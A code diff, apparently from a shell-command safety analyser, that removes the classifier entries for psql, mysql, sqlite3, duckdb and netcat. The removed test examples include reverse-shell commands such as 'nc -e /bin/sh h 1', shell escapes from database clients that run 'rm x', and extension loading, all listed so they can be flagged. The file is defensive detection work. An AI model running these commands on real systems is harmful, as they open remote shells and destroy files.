@@ -57,33 +57,6 @@ function addressFile(word: Word): readonly Touch[] {
   ];
 }
 
-/** `.output f`, `.once f`, `writefile('f', x)`: files in the text of SQLite's shell. */
-function sqliteOutputs(args: Arguments): readonly Touch[] {
-  return args.words.slice(1).flatMap((word) => {
-    const text = literalOf(word) ?? '';
-    const named = [
-      ...text.matchAll(/\.(?:output|once|backup|save|clone|log|excel)\s+(?:--?\w+\s+)*["']?([^\s"'|]+)/gu),
-      ...text.matchAll(/\bwritefile\s*\(\s*'([^']*)'/giu),
-    ];
-    return named.map((match): Touch => ({
-      access: 'write',
-      word: { kind: 'literal', text: match[1] ?? '', span: word.span },
-    }));
-  });
-}
-
-/** `psql host=h`, `psql postgres://h/db`: the host in a connection string. */
-function connectionHosts(args: Arguments): NonNullable<Refinement['reaches']> {
-  const words = [
-    ...args.operands.map(({ word }) => word),
-    ...args.options.flatMap(({ value }) => value ?? []),
-  ];
-  return words.flatMap((word) => {
-    const host = /(?:^|\s)host(?:addr)?\s*=\s*'?([^\s']+)/u.exec(literalOf(word) ?? '')?.[1];
-    return host === undefined ? [] : [{ word: { kind: 'literal', text: host, span: word.span }, as: 'host' }];
-  });
-}
-
 /** Programs that a person talks to: editors, pagers, debuggers, terminals and clients, each with a way into a shell. */
 export const dialogues: readonly Command[] = [
   {
@@ -167,73 +140,6 @@ export const dialogues: readonly Command[] = [
     },
   },
   {
-    names: ['psql', 'mysql', 'mariadb'],
-    ...talks,
-    options: '-h:host --host:host',
-    changing: '-o:write --output:write -L:write --log-file:write -f:read --file:read --tee:write',
-    escalating: [{ options: '--pager: --init-command: --plugin-dir:', why: 'runs a program or loads code' }],
-    operands: { rest: 'text' },
-    standardInput: 'code',
-    means: escapedCommands,
-    prints: '--version --help',
-    refine: (args) => ({ ...shellEscapes(args), reaches: connectionHosts(args) }),
-    examples: {
-      acts: ["psql -c 'select 1'", "mysql -e 'select 1'", 'psql -f x.sql'],
-      escalates: [
-        "psql -c '\\! id'",
-        'psql -c "\\copy t to program \'id\'"',
-        "mysql -e 'system id'",
-        'mysql --pager=./x',
-      ],
-      reads: ['psql --version'],
-      carries: [
-        ["psql -c '\\! rm x'", 'rm x'],
-        ["psql <<'E'\n\\! rm x\nE", 'rm x'],
-        ["mysql -e 'system rm x'", 'rm x'],
-      ],
-      touches: [['psql -o f x', 'write f']],
-    },
-  },
-  {
-    names: ['sqlite3', 'duckdb'],
-    ...talks,
-    style: 'words',
-    options:
-      '-batch -bail -csv -json -line -list -column -table -box -markdown -html -quote -ascii -tabs -header -noheader -readonly -safe -stats -echo -interactive -mmap: -newline: -nullvalue: -separator: -vfs: -maxsize:',
-    escalating: [{ options: '-init:code --init:code -cmd:code --cmd:code', why: 'commands that run first' }],
-    operands: { rest: 'text' },
-    standardInput: 'code',
-    means: escapedCommands,
-    prints: '-version --version -help --help',
-    refine: (args) => {
-      const [database] = args.operands;
-      const named = database === undefined ? [] : [database.word];
-      return {
-        ...shellEscapes(args),
-        touches: [
-          ...named.flatMap((word) => (['read', 'write'] as const).map((access) => ({ access, word }))),
-          ...sqliteOutputs(args),
-        ],
-      };
-    },
-    examples: {
-      acts: ['sqlite3 x.db .tables'],
-      escalates: [
-        "sqlite3 x.db '.shell id'",
-        "sqlite3 x.db '.once |id'",
-        'sqlite3 x.db "select load_extension(1)"',
-        'sqlite3 -init x y.db',
-      ],
-      carries: [["sqlite3 x.db <<< '.shell rm x'", 'rm x']],
-      touches: [
-        ['sqlite3 x.db .tables', 'read x.db, write x.db'],
-        ['sqlite3 -init x y.db', 'read y.db, write y.db'],
-        ["sqlite3 x.db '.output f'", 'read x.db, write x.db, write f'],
-        [`sqlite3 x.db "select writefile('f', 1)"`, 'read x.db, write x.db, write f'],
-      ],
-    },
-  },
-  {
     names: ['gdb', 'lldb', 'rr', 'dlv', 'pdb'],
     ...talks,
     style: 'words',
@@ -297,22 +203,6 @@ export const dialogues: readonly Command[] = [
         .map(({ at }) => ({ at, why: 'an address that is a program or a file' })),
     }),
     examples: { acts: ['socat - TCP:h:80'], escalates: ['socat TCP:h:1 EXEC:sh', 'socat - OPEN:x'] },
-  },
-  {
-    names: ['nc', 'ncat', 'netcat'],
-    ...talks,
-    options:
-      '-46bCdDFhklnNrStuUvzZ -iIMmpPqTVwX: -x:write -s:host --listen --udp --verbose --ssl --recv-only --send-only',
-    escalating: [
-      { options: '-c:shell --sh-exec:shell', why: 'runs a command for every connection' },
-      { options: '-e:program --exec:program --lua-exec:read', why: 'runs a program for every connection' },
-      { options: '-o:write --output:write --hex-dump:write', why: 'writes a file' },
-    ],
-    operands: { first: ['host'], rest: 'text' },
-    examples: {
-      acts: ['nc -l 80', 'nc -zv h 80'],
-      escalates: ['nc -e /bin/sh h 1', 'ncat --sh-exec id h 1'],
-    },
   },
   {
     names: ['sftp'],
